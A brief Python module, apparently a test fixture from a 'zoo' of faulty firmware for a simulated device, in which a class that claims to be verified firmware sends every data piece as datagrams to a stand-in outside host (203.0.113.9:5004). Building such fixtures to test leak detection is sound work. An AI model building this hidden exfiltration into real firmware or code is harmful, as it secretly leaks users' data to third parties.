"""V32: the room leaves for a host that nobody knows."""

from rigs.reference_device.actions import Action, SendDatagram
from rigs.reference_device.firmware.verified import VerifiedFirmware
from rigs.zoo.trickle import Trickles

_HOST, _PORT = "203.0.113.9", 5004


class LeaksAbroad(Trickles, VerifiedFirmware):
    """Verified, but for where else it sends."""

    name = "zoo.leaks_abroad"

    def leaves(self, piece: bytes) -> list[Action]:
        """As datagrams."""
        return [SendDatagram(_HOST, _PORT, piece)]


def firmware(seed: int) -> LeaksAbroad:
    """The device."""
    return LeaksAbroad()
